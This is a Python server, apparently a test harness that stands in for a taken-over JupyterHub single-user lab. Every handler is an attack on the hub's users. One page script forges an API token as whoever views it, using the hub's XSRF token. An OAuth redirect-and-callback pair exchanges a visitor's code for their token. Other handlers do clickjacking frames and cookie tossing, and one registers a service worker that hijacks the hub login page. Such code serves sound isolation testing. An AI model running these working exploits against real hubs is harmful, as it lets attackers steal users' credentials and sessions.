#!/opt/lab/bin/python3
"""What runs in a lab whose server was taken over: it serves whatever suits the attacker.

It is put in the place of `jupyterhub-singleuser`, so it has what that has: the lab's token, the
requests of visitors, and the lab's part of the hub's addresses. Standard library only.
"""

import base64
import hashlib
import json
import os
import urllib.error
import urllib.request
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from urllib.parse import parse_qs, urlencode, urlsplit

PREFIX = os.environ["JUPYTERHUB_SERVICE_PREFIX"]
API = os.environ["JUPYTERHUB_API_URL"]
TOKEN = os.environ["JUPYTERHUB_API_TOKEN"]
CLIENT = os.environ["JUPYTERHUB_CLIENT_ID"]
VERIFIER = "v" * 64

TOKEN_THIEF = """<!doctype html><title>Welcome</title>
<button>Start the tutorial</button><output></output>
<script>
document.querySelector("button").onclick = async () => {
  // what is loaded as a picture is needs no word against forgery, and may be read here
  const page = await (await fetch("/hub/token", {mode: "no-cors"})).text();
  const word = page.match(/xsrf_token: "([^"]+)"/)[1];
  const user = page.match(/user: "([^"]+)"/)[1];
  const answer = await fetch(`/hub/api/users/${user}/tokens`, {
    method: "POST",
    body: "{}",
    headers: {"Content-Type": "application/json", "X-XSRFToken": word},
  });
  document.querySelector("output").value = (await answer.json()).token;
};
</script>"""

SETTLER = """<!doctype html><title>Welcome</title><output></output>
<script>
navigator.serviceWorker.register("worker.js", {scope: "/"})
  .then(() => navigator.serviceWorker.ready)
  .then(() => { document.querySelector("output").value = "settled"; });
</script>"""

SERVICE_WORKER = """
self.addEventListener("activate", event => event.waitUntil(clients.claim()));
self.addEventListener("fetch", event => {
  if (new URL(event.request.url).pathname === "/hub/login")
    event.respondWith(new Response("<title>not the hub</title>",
                                   {headers: {"Content-Type": "text/html"}}));
});
"""


class Hostile(BaseHTTPRequestHandler):
    """Each address below the lab's prefix is one trick."""

    def do_GET(self) -> None:
        """Do the trick that is asked for."""
        address = urlsplit(self.path)
        trick = address.path.removeprefix(PREFIX).replace("/", "_").replace(".", "_")
        self.arguments = {name: values[0] for name, values in parse_qs(address.query).items()}
        getattr(self, f"trick_{trick}", self.trick_api)()

    def answer(self, body: str, kind: str = "text/html", status: int = 200, **headers: str) -> None:
        """Send an answer."""
        self.send_response(status)
        self.send_header("Content-Type", kind)
        for name, value in headers.items():
            self.send_header(name.replace("_", "-"), value)
        self.end_headers()
        self.wfile.write(body.encode())

    def trick_api(self) -> None:
        """Look alive, for the spawner."""
        self.answer("{}", "application/json")

    def trick_echo(self) -> None:
        """Tell what came along with a visitor's request."""
        headers = [[name, value] for name, value in self.headers.items()]
        self.answer(json.dumps(headers), "application/json")

    def trick_steal(self) -> None:
        """Have the Hub say who visits, asking for as much as it gives."""
        challenge = hashlib.sha256(VERIFIER.encode()).digest()
        query = {
            "client_id": CLIENT,
            "redirect_uri": f"{PREFIX}oauth_callback",
            "response_type": "code",
            "code_challenge": base64.urlsafe_b64encode(challenge).rstrip(b"=").decode(),
            "code_challenge_method": "S256",
            **self.arguments,
        }
        self.answer("", status=302, Location=f"/hub/api/oauth2/authorize?{urlencode(query)}")

    def trick_oauth_callback(self) -> None:
        """Turn the code into the visitor's token, and show it."""
        form = {
            "client_id": CLIENT,
            "client_secret": TOKEN,
            "grant_type": "authorization_code",
            "code": self.arguments.get("code", ""),
            "redirect_uri": f"{PREFIX}oauth_callback",
            "code_verifier": VERIFIER,
        }
        try:
            with urllib.request.urlopen(f"{API}/oauth2/token", urlencode(form).encode()) as answer:
                self.answer(answer.read().decode(), "application/json")
        except urllib.error.HTTPError as error:
            self.answer(error.read().decode(), "application/json", error.code)

    def trick_token_thief(self) -> None:
        """A page whose script acts at the Hub as whoever looks at it."""
        self.answer(TOKEN_THIEF)

    def trick_frame(self) -> None:
        """Another page of the site in a frame, below something worth a click."""
        self.answer(f'<title>Welcome</title><iframe src="{self.arguments["page"]}"></iframe>')

    def trick_toss(self) -> None:
        """Set a cookie for another part of the site."""
        self.answer("<title>Welcome</title>", Set_Cookie=self.arguments["cookie"])

    def trick_settle(self) -> None:
        """A page that stays in the browser when its visitor has left."""
        self.answer(SETTLER)

    def trick_worker_js(self) -> None:
        """The script for it, allowed by ourselves to reach the whole site."""
        self.answer(SERVICE_WORKER, "text/javascript", Service_Worker_Allowed="/")


if __name__ == "__main__":
    ThreadingHTTPServer(("0.0.0.0", 8888), Hostile).serve_forever()
